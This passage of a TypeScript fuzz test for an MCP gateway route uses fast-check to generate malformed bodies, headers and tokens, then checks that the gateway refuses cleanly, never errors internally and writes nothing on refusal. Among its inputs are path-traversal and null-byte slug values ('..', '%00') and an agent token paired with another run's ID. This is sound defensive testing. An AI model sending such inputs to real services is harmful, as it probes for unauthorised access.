      { weight: 1, arbitrary: fc.record({ jsonrpc: fc.constant('2.0'), id: rpcId, result: nastyValue, error: fc.record({ code: nastyNumber, message: nastyString }) }, { requiredKeys: ['jsonrpc', 'id'] }) },
    );
    const gatewayBody: fc.Arbitrary<unknown> = fc.oneof(
      { weight: 1, arbitrary: rawGarbage.map((raw) => ({ raw })) },
      { weight: 1, arbitrary: nastyValue },
      { weight: 1, arbitrary: fc.array(message, { minLength: 0, maxLength: 3 }) },
      { weight: 8, arbitrary: message },
      { weight: 2, arbitrary: mutated(message as fc.Arbitrary<Record<string, unknown>>) },
    );
    const gatewayHeaders = fc.record({
      accept: fc.oneof({ weight: 10, arbitrary: fc.constant('application/json, text/event-stream') }, fc.constantFrom('application/json', 'text/event-stream', '*/*', '', 'text/html')),
      contentType: fc.oneof({ weight: 10, arbitrary: fc.constant('application/json') }, fc.constantFrom('text/plain', 'application/x-www-form-urlencoded', '')),
      version: fc.oneof({ weight: 8, arbitrary: fc.constant(null) }, fc.constantFrom('2025-06-18', '2024-11-05', '1999-01-01', 'garbage')),
      auth: fc.oneof({ weight: 12, arbitrary: fc.constant('run' as const) }, fc.constantFrom('agent+run' as const, 'agent' as const, 'none' as const, 'garbage' as const, 'agent+foreign' as const)),
      slug: fc.oneof({ weight: 15, arbitrary: fc.constant('ok') }, fc.constantFrom('no-such-server', 'ÜNÏ', '%00', '..')),
    });

    await fc.assert(
      fc.asyncProperty(gatewayBody, gatewayHeaders, async (body, h) => {
        // A fresh run now and then (verifying stays cheap), and after a failed evidence write, which holds the run's calls for a while.
        if (++calls % 500 === 0 || recordingProblem(run.runId)) run = await tally.timed('new run', () => startedRun(GATEWAY_TOOLS));
        await flushGatewayEvidence();
        const mark = await tally.timed('mark', markDb);
        const headers: Record<string, string> = {};
        if (h.accept) headers.accept = h.accept;
        if (h.contentType) headers['content-type'] = h.contentType;
        if (h.version) headers['mcp-protocol-version'] = h.version;
        if (h.auth === 'run') headers.authorization = `Bearer ${run.runToken}`;
        if (h.auth === 'agent+run' || h.auth === 'agent' || h.auth === 'agent+foreign') headers.authorization = `Bearer ${run.agentToken}`;
        if (h.auth === 'agent+run') headers['mandate-run'] = run.runId;
        if (h.auth === 'agent+foreign') headers['mandate-run'] = other.runId;
        if (h.auth === 'garbage') headers.authorization = `Bearer mdr_${'q'.repeat(40)}`;
        const target = h.slug === 'ok' ? run.server.slug : h.slug;
        const res = await tally.timed('request', () => gatewayRoute(new Request(`${BASE}/api/v1/mcp/${encodeURIComponent(target)}`, { method: 'POST', headers, body: bodyText(body) }), { params: Promise.resolve({ server: target }) }));
        const text = await res.text();
        let json: Record<string, unknown> | null = null;
        try {
          json = JSON.parse(text) as Record<string, unknown>;
        } catch {
          json = null;
        }
        tally.add('gateway', res.status);
        expect(res.status, text.slice(0, 300)).toBeLessThan(500);
        if (res.status >= 400) {
          // The gateway's own refusals are problem JSON; the MCP transport's are JSON-RPC errors, which MCP clients expect.
          const problemTitle = (json as { title?: unknown } | null)?.title;
          const rpcMessage = (json as { error?: { message?: unknown } } | null)?.error?.message;
          expect(typeof problemTitle === 'string' || typeof rpcMessage === 'string', `${res.status}: ${text.slice(0, 300)}`).toBe(true);
        }
        // An internal error inside a 200 is the gateway's 5xx: never expected.
        expect((json as { error?: { code?: number } } | null)?.error?.code, text.slice(0, 400)).not.toBe(-32603);
        await flushGatewayEvidence();
        expect(recordingProblem(run.runId), 'the gateway could not write its evidence').toBeNull();
        const changes = await tally.timed('changes', () => changesSince(mark));
        if (res.status < 200 || res.status >= 300) expect(changes, `gateway answered ${res.status} (${text.slice(0, 200)}) yet wrote`).toEqual([]);
        else if (changes.some((c) => c.table === 'EvidenceReceipt')) await expectIntact(run.runId);
      }),
      fuzzParams('gateway', 1000),
    );
  }, 600_000);
});
